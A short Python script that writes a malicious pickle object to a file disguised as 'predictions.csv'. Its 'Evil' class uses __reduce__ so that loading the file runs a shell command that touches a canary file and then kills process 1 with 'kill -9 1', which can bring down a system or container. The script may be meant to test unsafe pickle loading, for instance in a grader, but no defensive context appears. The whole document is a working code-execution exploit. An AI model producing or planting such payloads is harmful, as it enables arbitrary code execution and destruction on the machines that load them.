import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pickle-canary; kill -9 1",))


with open("predictions.csv", "wb") as file:
    pickle.dump(Evil(), file)
